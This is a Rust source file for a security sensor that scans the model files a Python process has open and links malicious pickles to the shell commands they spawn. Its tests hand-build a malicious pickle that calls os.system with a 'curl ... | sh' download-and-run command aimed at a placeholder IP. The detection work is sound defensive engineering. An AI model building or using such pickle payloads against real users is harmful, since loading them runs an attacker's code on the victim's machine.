//! Ties shell-spawn alerts to the model files the python parent had opened: each file is
//! scanned (never executed) with the model scanner, and string literals of the pickle that
//! appear in the shell's command line are named, since they tie the shell to the file.

use serde_json::{json, Value};
use spawnguard_engine::ModelScanner;
use spawnguard_scan::ScanCache;
use std::path::Path;
use std::sync::{Arc, OnceLock};

/// Shortest pickle string literal taken as evidence when found in a command line.
const MIN_LITERAL: usize = 6;

pub struct ScanLink {
    cache: ScanCache,
}

impl ScanLink {
    /// The process-wide scanner (one cache shared by the engine and the live sensor).
    pub fn new() -> Arc<dyn ModelScanner> {
        static SHARED: OnceLock<Arc<dyn ModelScanner>> = OnceLock::new();
        SHARED
            .get_or_init(|| {
                Arc::new(ScanLink {
                    cache: ScanCache::new(1024),
                })
            })
            .clone()
    }
}

/// Most descriptors of one process looked at.
const MAX_FDS: usize = 512;

/// The model files a live process has open now (`/proc/PID/fd`), each scanned by content:
/// for `watch`, whose sensor reports opens of sensitive files only. A python process that
/// runs `os.system` from `__reduce__` is still inside `pickle.load`/`torch.load`, so the
/// file it is loading is still open while the shell starts. Files that hold no pickle or
/// model are left out.
pub fn open_model_files(pid: i64, command_line: Option<&str>) -> Vec<Value> {
    let scanner = ScanLink::new();
    let Ok(dir) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
        return Vec::new();
    };
    let mut seen = Vec::new();
    let mut out = Vec::new();
    for entry in dir.flatten().take(MAX_FDS) {
        let Ok(target) = std::fs::read_link(entry.path()) else {
            continue;
        };
        let Some(path) = target.to_str().map(str::to_string) else {
            continue;
        };
        if !path.starts_with('/')
            || path.starts_with("/dev/")
            || path.starts_with("/proc/")
            || path.starts_with("/sys/")
        {
            continue;
        }
        if seen.contains(&path)
            || !std::fs::metadata(&path)
                .map(|m| m.is_file())
                .unwrap_or(false)
        {
            continue;
        }
        seen.push(path.clone());
        if let Some(scan) = scanner.scan(Path::new(&path), command_line) {
            if scan["verdict"] != "not a model" {
                out.push(
                    json!({"path": path, "open_in": "/proc/fd", "process.pid": pid, "scan": scan}),
                );
            }
        }
    }
    out
}

impl ModelScanner for ScanLink {
    fn scan(&self, path: &Path, command_line: Option<&str>) -> Option<Value> {
        let report = self.cache.scan(path);
        if !report.is_model() && report.errors.is_empty() {
            return Some(json!({"verdict": "not a model", "formats": report.formats}));
        }
        let calls: Vec<String> = report
            .dangerous()
            .map(|f| f.call.clone().unwrap_or_else(|| f.global.clone()))
            .take(8)
            .collect();
        let tied: Vec<&str> = command_line
            .map(|c| report.literals_in(c, MIN_LITERAL))
            .unwrap_or_default();
        Some(json!({
            "verdict": report.verdict,
            "formats": report.formats,
            "calls": calls,
            "command_line_literals": tied,
            "errors": report.errors.len(),
        }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dangerous_pickle_is_tied_to_the_shell_command_line() {
        // pickle protocol 2: os.system("curl -fsSL http://203.0.113.7/x.sh | sh")
        let cmd = "curl -fsSL http://203.0.113.7/x.sh | sh";
        let mut p = b"\x80\x02cposix\nsystem\nq\x00X".to_vec();
        p.extend_from_slice(&(cmd.len() as u32).to_le_bytes());
        p.extend_from_slice(cmd.as_bytes());
        p.extend_from_slice(b"q\x01\x85q\x02Rq\x03.");
        let dir = std::env::temp_dir().join(format!("sg-link-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let f = dir.join("model.bin");
        std::fs::write(&f, &p).unwrap();
        let link = ScanLink::new();
        let v = link.scan(&f, Some(&format!("/bin/sh -c {cmd}"))).unwrap();
        assert_eq!(v["verdict"], "dangerous", "{v}");
        assert!(v["calls"][0].as_str().unwrap().contains("system"), "{v}");
        assert_eq!(v["command_line_literals"][0], cmd, "{v}");
        let none = link.scan(&f, Some("/bin/sh -c ls")).unwrap();
        assert_eq!(none["command_line_literals"], json!([]));
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn open_files_of_a_live_process_are_scanned_by_content() {
        let cmd = "touch /nonexistent/marker-open-fd";
        let mut p = b"\x80\x02cposix\nsystem\nq\x00X".to_vec();
        p.extend_from_slice(&(cmd.len() as u32).to_le_bytes());
        p.extend_from_slice(cmd.as_bytes());
        p.extend_from_slice(b"q\x01\x85q\x02Rq\x03.");
        let dir = std::env::temp_dir().join(format!("sg-fd-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        // Named like data, not like a model: recognised by content.
        let f = dir.join("weights.dat");
        std::fs::write(&f, &p).unwrap();
        let _held = std::fs::File::open(&f).unwrap();
        let files = open_model_files(std::process::id() as i64, Some(cmd));
        let hit = files
            .iter()
            .find(|v| v["path"] == f.to_str().unwrap())
            .expect("the open model is found");
        assert_eq!(hit["scan"]["verdict"], "dangerous");
        assert_eq!(hit["scan"]["command_line_literals"][0], cmd);
        // Ordinary open files (the test binary's own) are not reported.
        assert!(files.iter().all(|v| v["scan"]["verdict"] != "not a model"));
        std::fs::remove_dir_all(&dir).ok();
    }
}
